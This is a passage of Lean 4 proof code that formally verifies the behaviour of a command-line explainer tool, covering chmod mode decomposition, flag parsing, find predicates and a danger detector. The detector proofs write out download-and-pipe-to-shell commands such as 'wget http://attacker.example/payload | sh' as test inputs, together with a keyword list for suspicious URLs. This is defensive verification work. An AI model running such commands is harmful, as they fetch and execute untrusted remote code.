    simp [show ("chmod" ++ ": " ++ "Changes the permissions of a file or directory.")
      = "chmod: Changes the permissions of a file or directory." by rfl]
  · simp only [analyzeSingle, hkb, hexp, hcons, hredir, hrt2, hsubs, hpos, hposne,
      show decide ("chmod" = "sudo") = false by decide,
      show decide ("chmod" = "kill") = false by decide,
      show decide ("chmod" = "killall") = false by decide,
      show decide ("chmod" = "find") = false by decide,
      show decide ("chmod" = "grep") = false by decide,
      show decide ("chmod" = "chmod") = true by decide,
      Bool.false_and, Bool.false_or, Bool.true_and, if_false, if_true,
      Bool.false_eq_true, redirLines, dangerWarning]
    simp

theorem chmodPassthrough (mode target : String) (h : isOctal3 mode = false) :
    chmodLines [mode, target] =
      ("  mode: " ++ mode) :: (if target = "" then [] else ["  target: " ++ target]) := by
  simp only [chmodLines, pyJoin, h, Bool.false_eq_true, if_false]
  by_cases ht : target = "" <;> simp [ht]

theorem chmodDecomposed (d₁ d₂ d₃ : Char) (target : String)
    (h₁ : d₁ ∈ ['0','1','2','3','4','5','6','7'])
    (h₂ : d₂ ∈ ['0','1','2','3','4','5','6','7'])
    (h₃ : d₃ ∈ ['0','1','2','3','4','5','6','7'])
    (ht : target ≠ "") :
    chmodLines [String.mk [d₁, d₂, d₃], target] =
      ["  mode: " ++ String.mk [d₁, d₂, d₃],
       chmodDigitLine "owner" d₁, chmodDigitLine "group" d₂, chmodDigitLine "others" d₃,
       "  target: " ++ target] := by
  have hoct : isOctal3 (String.mk [d₁, d₂, d₃]) = true := by
    simp only [List.mem_cons, List.not_mem_nil, or_false] at h₁ h₂ h₃
    simp [isOctal3]
    exact ⟨h₁, h₂, h₃⟩
  simp [chmodLines, pyJoin, hoct, ht, List.zipWith]

theorem pcfExactMatch (arg : String) (flags : List (String × String)) (d : String)
    (h1 : strStarts arg "-" = true) (h2 : arg.length ≥ 2)
    (h3 : dictGet flags arg = some d) :
    parse_combined_flags arg flags = [(arg, d)] := by
  unfold parse_combined_flags
  simp [h1, h3, Nat.not_lt.mpr h2]

theorem pcfRepeated (arg : String) (flags : List (String × String)) (c : Char)
    (cs : List Char) (d : String)
    (hd : arg.data = '-' :: c :: cs) (hcs : cs ≠ []) (hall : allSame (c :: cs) = true)
    (h3 : dictGet flags arg = none)
    (h4 : dictGet flags (String.mk ['-', c]) = some d) :
    parse_combined_flags arg flags =
      [(arg, d ++ " (repeated " ++ Nat.repr (arg.length - 1) ++ " times)")] := by
  have hlen : arg.length > 2 := by
    show arg.data.length > 2
    rw [hd]
    cases cs with
    | nil => exact absurd rfl hcs
    | cons _ _ => simp
  have hstarts : strStarts arg "-" = true := by
    unfold strStarts
    rw [hd]
    simp [listStarts]
  have hlt : decide (arg.length < 2) = false := decide_eq_false (by omega)
  have hgt : decide (arg.length > 2) = true := decide_eq_true hlen
  unfold parse_combined_flags
  simp only [hstarts, Bool.not_true, Bool.false_or, h3, hlt, Bool.false_eq_true, if_false,
    hgt, Bool.true_and, hd, List.drop_succ_cons, List.drop_zero, hall, if_true, h4]

theorem pcfFallback (arg : String) (flags : List (String × String))
    (h1 : strStarts arg "-" = true) (h2 : arg.length ≥ 2)
    (h3 : dictGet flags arg = none)
    (h4 : ∀ c cs, arg.data.drop 1 = c :: cs → allSame (c :: cs) = true →
      dictGet flags (String.mk ['-', c]) = none)
    (h5 : prefixScan arg flags (arg.length - 1) = none) :
    parse_combined_flags arg flags = perCharFlags flags (arg.data.drop 1) := by
  have hlt : decide (arg.length < 2) = false := decide_eq_false (by omega)
  unfold parse_combined_flags
  simp only [h1, Bool.not_true, Bool.false_or, h3, hlt, Bool.false_eq_true, if_false, h5]
  have hrep : (if (decide (arg.length > 2) && allSame (List.drop 1 arg.data)) = true then
      match List.drop 1 arg.data with
      | c :: tail =>
        match dictGet flags { data := ['-', c] } with
        | some d => some [(arg, d ++ " (repeated " ++ (arg.length - 1).repr ++ " times)")]
        | none => none
      | [] => none
    else none) = (none : Option (List (String × String))) := by
    by_cases hall : allSame (List.drop 1 arg.data) = true
    · match hdt : List.drop 1 arg.data with
      | [] => simp
      | c :: tail =>
        rw [hdt] at hall
        simp only [hall, Bool.and_true, h4 c tail hdt hall]
        split <;> simp
    · have hf : allSame (List.drop 1 arg.data) = false := by simpa using hall
      simp only [hf, Bool.and_false, Bool.false_eq_true, if_false]
  rw [hrep]
  show (match (if arg.length > 2 then none else none : Option (List (String × String))) with
    | some r => r
    | none => perCharFlags flags (List.drop 1 arg.data)) = perCharFlags flags (List.drop 1 arg.data)
  split
  · rename_i r heq
    exfalso
    split at heq <;> simp_all
  · rfl

end ExplainCli

namespace ExplainCli

/-- C4 counterexample: a two-digit octal mode (and a four-digit one not
starting with `0`) is NOT decomposed — the analyzer passes it through as a
symbolic mode, refuting "1 to 4 octal digits". -/
theorem c4_counterexample_short_octal_passthrough :
    (analyzeSingle oracleNotFound ["chmod", "77", "f.txt"] COMMAND_KNOWLEDGE_BASE).1 =
      ["chmod: Changes the permissions of a file or directory.",
       "  mode: 77", "  target: f.txt"] ∧
    (analyzeSingle oracleNotFound ["chmod", "7777", "f.txt"] COMMAND_KNOWLEDGE_BASE).1 =
      ["chmod: Changes the permissions of a file or directory.",
       "  mode: 7777", "  target: f.txt"] := ⟨by decide, by decide⟩

/-- C4 (amended): the chmod mode is decomposed into owner/group/others
read/write/execute bits exactly when it matches `0?[0-7]{3}` — three octal
digits optionally preceded by a literal `0` — and any other mode string
(including 1-, 2-digit octal strings and 4-digit strings not starting with
`0`) is passed through verbatim as a symbolic mode; analyzing
`["chmod","755","file.txt"]` yields owner=7 (read/write/execute),
group=5 (read/execute), others=5 (read/execute) and target `file.txt`. -/
theorem c4_chmod_octal_decomposition :
    (∀ mode target : String, strStarts mode "-" = false → strStarts target "-" = false →
      isRedirOp mode = false → isRedirOp target = false →
      (analyzeSingle oracleNotFound ["chmod", mode, target] COMMAND_KNOWLEDGE_BASE).1 =
        "chmod: Changes the permissions of a file or directory." :: chmodLines [mode, target] ∧
      (analyzeSingle oracleNotFound ["chmod", mode, target] COMMAND_KNOWLEDGE_BASE).2.1 = [])
    ∧ (∀ mode target : String, isOctal3 mode = false →
      chmodLines [mode, target] =
        ("  mode: " ++ mode) :: (if target = "" then [] else ["  target: " ++ target]))
    ∧ (∀ (d₁ d₂ d₃ : Char) (target : String),
      d₁ ∈ ['0','1','2','3','4','5','6','7'] → d₂ ∈ ['0','1','2','3','4','5','6','7'] →
      d₃ ∈ ['0','1','2','3','4','5','6','7'] → target ≠ "" →
      chmodLines [String.mk [d₁, d₂, d₃], target] =
        ["  mode: " ++ String.mk [d₁, d₂, d₃],
         chmodDigitLine "owner" d₁, chmodDigitLine "group" d₂, chmodDigitLine "others" d₃,
         "  target: " ++ target])
    ∧ chmodDigitLine "owner" '7' = "  owner: 7 (read/write/execute)"
    ∧ chmodDigitLine "group" '5' = "  group: 5 (read/execute)"
    ∧ chmodDigitLine "others" '0' = "  others: 0 (none)"
    ∧ chmodDigitLine "others" '6' = "  others: 6 (read/write)"
    ∧ isOctal3 "755" = true ∧ isOctal3 "0644" = true ∧ isOctal3 "77" = false
    ∧ isOctal3 "7" = false ∧ isOctal3 "7777" = false ∧ isOctal3 "1755" = false
    ∧ (analyzeSingle oracleNotFound ["chmod", "755", "file.txt"] COMMAND_KNOWLEDGE_BASE).1 =
      ["chmod: Changes the permissions of a file or directory.", "  mode: 755",
       "  owner: 7 (read/write/execute)", "  group: 5 (read/execute)",
       "  others: 5 (read/execute)", "  target: file.txt"] := by
  refine ⟨chmodRouting, chmodPassthrough, chmodDecomposed, by decide, by decide, by decide,
    by decide, by decide, by decide, by decide, by decide, by decide, by decide, by decide⟩

/-- Witness for C4: the amended theorem applied to the symbolic mode
`u+x` (passed through verbatim) and to the octal mode `640`. -/
theorem c4_witness :
    ((analyzeSingle oracleNotFound ["chmod", "u+x", "f"] COMMAND_KNOWLEDGE_BASE).1 =
      "chmod: Changes the permissions of a file or directory." :: chmodLines ["u+x", "f"]) ∧
    chmodLines ["u+x", "f"] = ["  mode: u+x", "  target: f"] ∧
    chmodLines ["640", "f"] = ["  mode: 640", chmodDigitLine "owner" '6',
      chmodDigitLine "group" '4', chmodDigitLine "others" '0', "  target: f"] :=
  ⟨(c4_chmod_octal_decomposition.1 "u+x" "f" (by decide) (by decide) (by decide) (by decide)).1,
   (by
     have h := c4_chmod_octal_decomposition.2.1 "u+x" "f" (by decide)
     simpa using h),
   (by
     have h := c4_chmod_octal_decomposition.2.2.1 '6' '4' '0' "f"
       (by decide) (by decide) (by decide) (by decide)
     simpa using h)⟩

/-- C7 counterexample: for the repeated-letter token `-ll` with `-l` known,
`parse_combined_flags` emits a single combined line with a
"(repeated 2 times)" suffix instead of per-character explanation lines, so
the claimed per-character decomposition does not happen. -/
theorem c7_counterexample_repeated_flag :
    (analyzeSingle oracleEmptyFound ["ls", "-ll"] COMMAND_KNOWLEDGE_BASE).1 =
      ["ls: Lists directory contents.",
       "  -ll: Uses a long listing format. (repeated 2 times)"] ∧
    "  -l: Uses a long listing format." ∉
      (analyzeSingle oracleEmptyFound ["ls", "-ll"] COMMAND_KNOWLEDGE_BASE).1 ∧
    parse_combined_flags "-vv" [("-v", "verbose")] =
      [("-vv", "verbose (repeated 2 times)")] := ⟨by decide, by decide, by decide⟩

/-- C7 (amended): for a token starting with a single `-` and longer than
two characters the analyzer first tries the whole token as one combined
flag key; if unmatched it next renders a repeated single letter whose base
flag is known as one "(repeated N times)" line, then tries the longest
known prefix of length at least 2 followed by per-character explanation of
the remainder, and only then falls back to decomposing the whole token
into individual characters, emitting a line for exactly those that match
known single-letter flags; `["ls","-la"]` with flags `{-l, -a}` produces
explanation lines for both `-l` and `-a`. -/
theorem c7_combined_flag_resolution :
    (∀ (arg : String) (flags : List (String × String)) (d : String),
      strStarts arg "-" = true → arg.length ≥ 2 → dictGet flags arg = some d →
      parse_combined_flags arg flags = [(arg, d)])
    ∧ (∀ (arg : String) (flags : List (String × String)) (c : Char) (cs : List Char) (d : String),
      arg.data = '-' :: c :: cs → cs ≠ [] → allSame (c :: cs) = true →
      dictGet flags arg = none → dictGet flags (String.mk ['-', c]) = some d →
      parse_combined_flags arg flags =
        [(arg, d ++ " (repeated " ++ Nat.repr (arg.length - 1) ++ " times)")])
    ∧ (∀ (arg : String) (flags : List (String × String)),
      strStarts arg "-" = true → arg.length ≥ 2 → dictGet flags arg = none →
      (∀ c cs, arg.data.drop 1 = c :: cs → allSame (c :: cs) = true →
        dictGet flags (String.mk ['-', c]) = none) →
      prefixScan arg flags (arg.length - 1) = none →
      parse_combined_flags arg flags = perCharFlags flags (arg.data.drop 1))
    ∧ perCharFlags [("-l", "Uses a long listing format."),
        ("-a", "Shows all files, including hidden files (starting with '.')."),
        ("-h", "With -l, prints sizes in human readable format (e.g., 1K 234M 2G).")]
        ['l', 'a'] =
      [("-l", "Uses a long listing format."),
       ("-a", "Shows all files, including hidden files (starting with '.').")]
    ∧ (analyzeSingle oracleEmptyFound ["ls", "-la"] COMMAND_KNOWLEDGE_BASE).1 =
      ["ls: Lists directory contents.", "  -l: Uses a long listing format.",
       "  -a: Shows all files, including hidden files (starting with '.')."] := by
  exact ⟨pcfExactMatch, pcfRepeated, pcfFallback, by decide, by decide⟩

/-- Witness for C7: every branch of the amended theorem at concrete
inputs — an exact combined match `-sV`, a repeated `-vvv`, and the
per-character fallback `-xy`. -/
theorem c7_witness :
    parse_combined_flags "-sV" [("-sV", "Probe open ports")] =
      [("-sV", "Probe open ports")] ∧
    parse_combined_flags "-vvv" [("-v", "verbose")] =
      [("-vvv", "verbose (repeated 3 times)")] ∧
    parse_combined_flags "-xy" [("-y", "yes")] = [("-y", "yes")] :=
  ⟨c7_combined_flag_resolution.1 "-sV" [("-sV", "Probe open ports")] "Probe open ports"
      (by decide) (by decide) (by decide),
   (by
     have h := c7_combined_flag_resolution.2.1 "-vvv" [("-v", "verbose")] 'v' ['v', 'v']
       "verbose" (by decide) (by decide) (by decide) (by decide) (by decide)
     simpa using h),
   (by
     have h := c7_combined_flag_resolution.2.2.1 "-xy" [("-y", "yes")]
       (by decide) (by decide) (by decide)
       (by
         intro c cs h1 h2
         simp at h1
         rw [← h1.1, ← h1.2] at h2
         simp [allSame] at h2)
       (by decide)
     simpa using h)⟩

end ExplainCli

namespace ExplainCli

/-! ## Lemmas and theorem for the danger-detector claim -/

theorem listStarts_exists_append {l p : List Char} (h : listStarts l p = true) :
    ∃ t, l = p ++ t := by
  induction p generalizing l with
  | nil => exact ⟨l, rfl⟩
  | cons c ps ih =>
    match l with
    | [] => simp [listStarts] at h
    | x :: xs =>
      simp only [listStarts, Bool.and_eq_true, decide_eq_true_eq] at h
      obtain ⟨t, ht⟩ := ih h.2
      exact ⟨t, by rw [h.1, ht]; rfl⟩

theorem listStarts_refl (l : List Char) : listStarts l l = true := by
  induction l with
  | nil => rfl
  | cons c cs ih => simp [listStarts, ih]

theorem listHasSub_append_left (a e : List Char) :
    listHasSub (a ++ e) e = true := by
  induction a with
  | nil =>
    match e with
    | [] => rfl
    | c :: cs =>
      simp only [List.nil_append, listHasSub, Bool.or_eq_true]
      exact Or.inl (listStarts_refl _)
  | cons x xs ih =>
    simp only [List.cons_append, listHasSub, Bool.or_eq_true]
    exact Or.inr ih

theorem strHasSub_of_strEnds {s e : String} (h : strEnds s e = true) :
    strHasSub s e = true := by
  unfold strEnds at h
  obtain ⟨t, ht⟩ := listStarts_exists_append h
  have : s.data = t.reverse ++ e.data := by
    have := congrArg List.reverse ht
    simpa using this
  unfold strHasSub
  rw [this]
  exact listHasSub_append_left _ _

/-- The specific script-file warning string. -/
def scriptFileWarning (url : String) : String :=
  "WARNING: This command downloads a script file (" ++ url ++
    ") and pipes it to an interpreter. This could execute malicious code!"

/-- The suspicious-URL warning string. -/
def suspiciousUrlWarning (url : String) : String :=
  "WARNING: This command downloads from a suspicious URL (" ++ url ++
    ") and pipes it to an interpreter. This is likely malicious!"

theorem downloaderWarnings_hit (pre post : List String) (d url : String)
    (hd : d = "curl" ∨ d = "wget")
    (hurl : ([".py", ".sh", ".bash", ".pl", ".rb", ".js", ".php"].any
        (fun e => strEnds (pyLower url) e) = true)
      ∨ (strHasSub (pyLower url) "attacker" || strHasSub (pyLower url) "malware" ||
          strHasSub (pyLower url) "evil") = true) :
    scriptFileWarning url ∈ downloaderWarnings (pre ++ d :: url :: post) ∨
    suspiciousUrlWarning url ∈ downloaderWarnings (pre ++ d :: url :: post) := by
  induction pre with
  | nil =>
    simp only [List.nil_append]
    by_cases hb : ([".py", ".sh", ".bash", ".pl", ".rb", ".js", ".php"].any
        (fun e => strHasSub (pyLower url) e)) = true
    · left
      unfold downloaderWarnings
      rcases hd with hd | hd <;>
        simp [hd, hb, scriptFileWarning]
    · right
      have hsusp : (strHasSub (pyLower url) "attacker" || strHasSub (pyLower url) "malware" ||
          strHasSub (pyLower url) "evil") = true := by
        rcases hurl with hurl | hurl
        · exfalso
          apply hb
          simp only [List.any_eq_true] at hurl ⊢
          obtain ⟨e, he, hee⟩ := hurl
          exact ⟨e, he, strHasSub_of_strEnds hee⟩
        · exact hurl
      unfold downloaderWarnings
      rcases hd with hd | hd <;>
        simp [hd, hb, hsusp, suspiciousUrlWarning]
  | cons x xs ih =>
    have hne : ∃ y ys, xs ++ d :: url :: post = y :: ys := by
      cases xs with
      | nil => exact ⟨d, url :: post, rfl⟩
      | cons a as => exact ⟨a, as ++ d :: url :: post, rfl⟩
    obtain ⟨y, ys, hys⟩ := hne
    have : downloaderWarnings (x :: xs ++ d :: url :: post) =
        (if x = "curl" || x = "wget" then
          (if [".py", ".sh", ".bash", ".pl", ".rb", ".js", ".php"].any
              (fun e => strHasSub (pyLower y) e) then
            [scriptFileWarning y]
          else if strHasSub (pyLower y) "attacker" || strHasSub (pyLower y) "malware" ||
              strHasSub (pyLower y) "evil" then
            [suspiciousUrlWarning y]
          else [])
        else []) ++ downloaderWarnings (xs ++ d :: url :: post) := by
      rw [List.cons_append, hys]
      rfl
    rw [this]
    rcases ih with ih | ih
    · exact Or.inl (List.mem_append_right _ ih)
    · exact Or.inr (List.mem_append_right _ ih)

end ExplainCli

namespace ExplainCli

/-- C5: in the danger detector, when the tokens contain `curl` or `wget`
and the raw string contains a pipe character, a downloader token whose
following URL token ends in a script-like extension (.py .sh .bash .pl .rb
.js .php) or contains a suspicious substring (attacker, malware, evil)
produces a specific warning naming that URL; and for
`curl http://x/evil.py | bash` the output includes both the generic
download-and-execute warning and the specific script-extension warning
naming `http://x/evil.py`. -/
theorem c5_downloader_url_warnings :
    (∀ (cmdStr : String) (pre post : List String) (d url : String),
      (d = "curl" ∨ d = "wget") → strHasSub cmdStr "|" = true →
      (([".py", ".sh", ".bash", ".pl", ".rb", ".js", ".php"].any
          (fun e => strEnds (pyLower url) e) = true)
        ∨ (strHasSub (pyLower url) "attacker" || strHasSub (pyLower url) "malware" ||
            strHasSub (pyLower url) "evil") = true) →
      scriptFileWarning url ∈
          detect_dangerous_patterns cmdStr (pre ++ d :: url :: post) ∨
        suspiciousUrlWarning url ∈
          detect_dangerous_patterns cmdStr (pre ++ d :: url :: post))
    ∧ "Downloading and executing a script from the internet can be dangerous." ∈
        detect_dangerous_patterns "curl http://x/evil.py | bash"
          ["curl", "http://x/evil.py", "|", "bash"]
    ∧ scriptFileWarning "http://x/evil.py" ∈
        detect_dangerous_patterns "curl http://x/evil.py | bash"
          ["curl", "http://x/evil.py", "|", "bash"] := by
  refine ⟨?_, by decide, by decide⟩
  intro cmdStr pre post d url hd hpipe hurl
  have hdl := downloaderWarnings_hit pre post d url hd hurl
  have hcw : (["curl", "wget"].any
      (fun c => (pre ++ d :: url :: post).contains c)) = true := by
    have hc : (pre ++ d :: url :: post).contains d = true :=
      List.elem_eq_true_of_mem (by simp)
    rcases hd with hd | hd <;> subst hd <;>
      simp only [List.any_cons, List.any_nil, hc, Bool.true_or, Bool.or_true,
        Bool.false_or, Bool.or_false]
  unfold detect_dangerous_patterns
  rw [if_pos hcw, if_pos hpipe]
  rcases hdl with h | h
  · left
    simp only [List.mem_append]
    tauto
  · right
    simp only [List.mem_append]
    tauto


/-- Witness for C5: a suspicious wget URL inside a pipeline produces one of
the two URL-naming warnings. -/
theorem c5_witness :
    scriptFileWarning "http://attacker.example/payload" ∈
        detect_dangerous_patterns "wget http://attacker.example/payload | sh"
          (["wget", "http://attacker.example/payload"] ++ ["|", "sh"]) ∨
      suspiciousUrlWarning "http://attacker.example/payload" ∈
        detect_dangerous_patterns "wget http://attacker.example/payload | sh"
          (["wget", "http://attacker.example/payload"] ++ ["|", "sh"]) := by
  have h := c5_downloader_url_warnings.1 "wget http://attacker.example/payload | sh"
    [] ["|", "sh"] "wget" "http://attacker.example/payload"
    (Or.inr rfl) (by decide) (Or.inr (by decide))
  simpa using h

end ExplainCli

namespace ExplainCli

theorem gcd_flags_notFound (raw : Oracle) (cmd : String)
    (hf : (raw cmd).found = false) :
    (get_command_details raw cmd).flags = [] := by
  simp only [get_command_details, hf]
  rfl

theorem gcd_flags_found_other (raw : Oracle) (cmd : String)
    (hf : (raw cmd).found = true) (hfind : cmd ≠ "find") :
    (get_command_details raw cmd).flags = (raw cmd).flags := by
  simp only [get_command_details, hf, Bool.not_true, Bool.false_eq_true, if_false,
    if_neg hfind]

theorem gcd_flags_found_find (raw : Oracle) (cmd : String)
    (hf : (raw cmd).found = true) (hfind : cmd = "find") :
    (get_command_details raw cmd).flags =
      manFindFlags.foldl (fun fs (p : String × String) =>
        match dictGet fs p.1 with
        | none => dictInsert fs p.1 p.2
        | some d => if d.length < 10 then dictInsert fs p.1 p.2 else fs)
        (raw cmd).flags := by
  simp only [get_command_details, hf, Bool.not_true, Bool.false_eq_true, if_false,
    if_pos hfind]

theorem get_command_details_flags_nodup (raw : Oracle) (cmd : String)
    (h : ((raw cmd).flags.map Prod.fst).Nodup) :
    ((get_command_details raw cmd).flags.map Prod.fst).Nodup := by
  by_cases hf : (raw cmd).found = true
  · by_cases hfind : cmd = "find"
    · rw [gcd_flags_found_find raw cmd hf hfind]
      generalize (raw cmd).flags = fs at h ⊢
      have main : ∀ (l : List (String × String)) (fs : List (String × String)),
          (fs.map Prod.fst).Nodup →
          ((l.foldl (fun fs p =>
            match dictGet fs p.1 with
            | none => dictInsert fs p.1 p.2
            | some d => if d.length < 10 then dictInsert fs p.1 p.2 else fs) fs).map
              Prod.fst).Nodup := by
        intro l
        induction l with
        | nil => intro fs hfs; simpa
        | cons p rest ih =>
          intro fs hfs
          simp only [List.foldl_cons]
          apply ih
          match hdg : dictGet fs p.1 with
          | none => exact dictInsert_keys_nodup _ _ _ hfs
          | some d =>
            by_cases hl : d.length < 10
            · simp only [hl, if_true, if_pos hl]
              exact dictInsert_keys_nodup _ _ _ hfs
            · simp only [hl, if_false, if_neg hl]
              exact hfs
      exact main manFindFlags fs h
    · rw [gcd_flags_found_other raw cmd hf hfind]
      exact h
  · rw [gcd_flags_notFound raw cmd (Bool.not_eq_true _ |>.mp hf)]
    simp

/-- C1: for every command name present in the knowledge table (and outside the
sudo-with-arguments branch), the analyzer's first explanation line renders the
table entry's description verbatim, its warnings start with the danger warning
computed from the table entry's danger level, and the resolved flag mapping
looks up a key first in the dynamically extracted flags and only then in the
table entry's flags, so dynamic values win on key collision - for any oracle,
i.e. whatever the dynamic extraction returns. -/
theorem c1_table_entry_resolution (raw : Oracle) (kb : KnowledgeBase) (cmd : String)
    (args : List String) (entry : KBEntry)
    (hkb : dictGet kb cmd = some entry)
    (hns : ¬(cmd = "sudo" ∧ args ≠ []))
    (hnd : ((raw cmd).flags.map Prod.fst).Nodup) :
    (∃ rest, (analyzeSingle raw (cmd :: args) kb).1 =
      (cmd ++ ": " ++ entry.description) :: rest) ∧
    (∃ rest, (analyzeSingle raw (cmd :: args) kb).2.1 =
      dangerWarning cmd entry ++ rest) ∧
    (∀ k, dictGet (resolvedFlags entry (get_command_details raw cmd)) k =
      ((dictGet (get_command_details raw cmd).flags k).or
        (dictGet (entry.flags.getD []) k))) := by
  have hcond : (decide (cmd = "sudo") && decide (args ≠ [])) = false := by
    rcases not_and_or.mp hns with h | h
    · simp [h]
    · simp only [ne_eq, not_not] at h
      simp [h]
  refine ⟨?_, ?_, ?_⟩
  · simp only [analyzeSingle, hcond, Bool.false_eq_true, if_false, hkb]
    exact ⟨_, rfl⟩
  · simp only [analyzeSingle, hcond, Bool.false_eq_true, if_false, hkb,
      List.append_assoc]
    exact ⟨_, rfl⟩
  · intro k
    unfold resolvedFlags
    exact dictGet_dictUpdate _ _ k (get_command_details_flags_nodup raw cmd hnd)

/-- Witness for C1 at a concrete input: command `chmod` with a dynamic
extraction that reports a summary and one flag. -/
theorem c1_witness :
    (∃ rest, (analyzeSingle (fun _ => ⟨true, "dyn summary", [("-x", "dynamic")], []⟩)
        ["chmod"] COMMAND_KNOWLEDGE_BASE).1 =
      ("chmod" ++ ": " ++ "Changes the permissions of a file or directory.") :: rest) ∧
    (∃ rest, (analyzeSingle (fun _ => ⟨true, "dyn summary", [("-x", "dynamic")], []⟩)
        ["chmod"] COMMAND_KNOWLEDGE_BASE).2.1 =
      dangerWarning "chmod"
        ⟨"Changes the permissions of a file or directory.", "low", none⟩ ++ rest) ∧
    (∀ k, dictGet (resolvedFlags
        ⟨"Changes the permissions of a file or directory.", "low", none⟩
        (get_command_details (fun _ => ⟨true, "dyn summary", [("-x", "dynamic")], []⟩)
          "chmod")) k =
      ((dictGet (get_command_details
          (fun _ => ⟨true, "dyn summary", [("-x", "dynamic")], []⟩) "chmod").flags k).or
        (dictGet ((some [] : Option (List (String × String))).getD []) k))) := by
  have h := c1_table_entry_resolution
    (fun _ => ⟨true, "dyn summary", [("-x", "dynamic")], []⟩)
    COMMAND_KNOWLEDGE_BASE "chmod" []
    ⟨"Changes the permissions of a file or directory.", "low", none⟩
    (by decide) (by decide) (by decide)
  simpa using h

end ExplainCli

namespace ExplainCli

/-- C8: analyzing `find /tmp -mtime +7 -delete` emits the permanent-removal
warning for `-delete` and the more-than-7-days explanation line; generally,
for the time predicates `-mtime`/`-mmin` a value `+N` renders "more than N",
`-N` renders "less than N" and a bare digit string `N` renders "exactly N"
(days/minutes respectively), and the find walk emits exactly that line for a
known predicate followed by a value token. -/
theorem c8_find_time_predicates (n indent : String) (ff : List (String × String))
    (hne : n.data ≠ []) (hd : n.data.all Char.isDigit = true) :
    ("The -delete flag will permanently remove files" ∈
      (analyzeSingle oracleEmptyFound ["find", "/tmp", "-mtime", "+7", "-delete"]
        COMMAND_KNOWLEDGE_BASE).2.1) ∧
    ("  -mtime: find files modified more than 7 days ago" ∈
      (analyzeSingle oracleEmptyFound ["find", "/tmp", "-mtime", "+7", "-delete"]
        COMMAND_KNOWLEDGE_BASE).1) ∧
    findValueLine indent "-mtime" ("+" ++ n) ff =
      indent ++ "-mtime: find files modified more than " ++ n ++ " days ago" ∧
    findValueLine indent "-mtime" ("-" ++ n) ff =
      indent ++ "-mtime: find files modified less than " ++ n ++ " days ago" ∧
    findValueLine indent "-mtime" n ff =
      indent ++ "-mtime: find files modified exactly " ++ n ++ " days ago" ∧
    findValueLine indent "-mmin" ("+" ++ n) ff =
      indent ++ "-mmin: find files modified more than " ++ n ++ " minutes ago" ∧
    findValueLine indent "-mmin" ("-" ++ n) ff =
      indent ++ "-mmin: find files modified less than " ++ n ++ " minutes ago" ∧
    findValueLine indent "-mmin" n ff =
      indent ++ "-mmin: find files modified exactly " ++ n ++ " minutes ago" ∧
    (∀ arg v rest, dictMem ff arg = true → findIsValue v = true →
      findWalk indent ff (arg :: v :: rest) =
        (findValueLine indent arg v ff :: (findWalk indent ff rest).1,
         (findWalk indent ff rest).2)) := by
  obtain ⟨c, t, hct⟩ : ∃ c t, n.data = c :: t := by
    cases hn : n.data with
    | nil => exact absurd hn hne
    | cons c t => exact ⟨c, t, rfl⟩
  have hcd : c.isDigit = true := by
    rw [hct] at hd
    simp only [List.all_cons, Bool.and_eq_true] at hd
    exact hd.1
  have hcp : c ≠ '+' := by
    intro h
    subst h
    simp [Char.isDigit] at hcd
  have hcm : c ≠ '-' := by
    intro h
    subst h
    simp [Char.isDigit] at hcd
  have hdp : ("+" ++ n).data = '+' :: n.data := by
    rw [String.data_append]
    rfl
  have hdm : ("-" ++ n).data = '-' :: n.data := by
    rw [String.data_append]
    rfl
  have hsp : strStarts ("+" ++ n) "+" = true := by
    simp [strStarts, hdp, listStarts]
  have hsm : strStarts ("-" ++ n) "-" = true := by
    simp [strStarts, hdm, listStarts]
  have hspm : strStarts ("-" ++ n) "+" = false := by
    simp [strStarts, hdm, listStarts]
  have hsnp : strStarts n "+" = false := by
    simp [strStarts, hct, listStarts, hcp]
  have hsnm : strStarts n "-" = false := by
    simp [strStarts, hct, listStarts, hcm]
  have hdrop_p : pyDrop1 ("+" ++ n) = n := by
    unfold pyDrop1
    rw [hdp]
    rfl
  have hdrop_m : pyDrop1 ("-" ++ n) = n := by
    unfold pyDrop1
    rw [hdm]
    rfl
  refine ⟨by decide, by decide, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · unfold findValueLine
    rw [if_neg (by decide), if_neg (by decide), if_pos rfl, if_pos hsp, hdrop_p]
  · unfold findValueLine
    rw [if_neg (by decide), if_neg (by decide), if_pos rfl, if_neg (by simp [hspm]),
      if_pos hsm, hdrop_m]
  · unfold findValueLine
    rw [if_neg (by decide), if_neg (by decide), if_pos rfl, if_neg (by simp [hsnp]),
      if_neg (by simp [hsnm])]
  · unfold findValueLine
    rw [if_neg (by decide), if_neg (by decide), if_neg (by decide), if_pos rfl,
      if_pos hsp, hdrop_p]
  · unfold findValueLine
    rw [if_neg (by decide), if_neg (by decide), if_neg (by decide), if_pos rfl,
      if_neg (by simp [hspm]), if_pos hsm, hdrop_m]
  · unfold findValueLine
    rw [if_neg (by decide), if_neg (by decide), if_neg (by decide), if_pos rfl,
      if_neg (by simp [hsnp]), if_neg (by simp [hsnm])]
  · intro arg v rest hmem hval
    simp [findWalk, hmem, hval]


/-- Witness for C8 at `N = 7`. -/
theorem c8_witness :
    ("The -delete flag will permanently remove files" ∈
      (analyzeSingle oracleEmptyFound ["find", "/tmp", "-mtime", "+7", "-delete"]
        COMMAND_KNOWLEDGE_BASE).2.1) ∧
    ("  -mtime: find files modified more than 7 days ago" ∈
      (analyzeSingle oracleEmptyFound ["find", "/tmp", "-mtime", "+7", "-delete"]
        COMMAND_KNOWLEDGE_BASE).1) ∧
    findValueLine "  " "-mtime" ("+" ++ "7") [("-mtime", "x")] =
      "  " ++ "-mtime: find files modified more than " ++ "7" ++ " days ago" ∧
    findValueLine "  " "-mtime" ("-" ++ "7") [("-mtime", "x")] =
      "  " ++ "-mtime: find files modified less than " ++ "7" ++ " days ago" ∧
    findValueLine "  " "-mtime" "7" [("-mtime", "x")] =
      "  " ++ "-mtime: find files modified exactly " ++ "7" ++ " days ago" ∧
    findValueLine "  " "-mmin" ("+" ++ "7") [("-mtime", "x")] =
      "  " ++ "-mmin: find files modified more than " ++ "7" ++ " minutes ago" ∧
    findValueLine "  " "-mmin" ("-" ++ "7") [("-mtime", "x")] =
      "  " ++ "-mmin: find files modified less than " ++ "7" ++ " minutes ago" ∧
    findValueLine "  " "-mmin" "7" [("-mtime", "x")] =
      "  " ++ "-mmin: find files modified exactly " ++ "7" ++ " minutes ago" ∧
    (∀ arg v rest, dictMem [("-mtime", "x")] arg = true → findIsValue v = true →
      findWalk "  " [("-mtime", "x")] (arg :: v :: rest) =
        (findValueLine "  " arg v [("-mtime", "x")] ::
          (findWalk "  " [("-mtime", "x")] rest).1,
         (findWalk "  " [("-mtime", "x")] rest).2)) :=
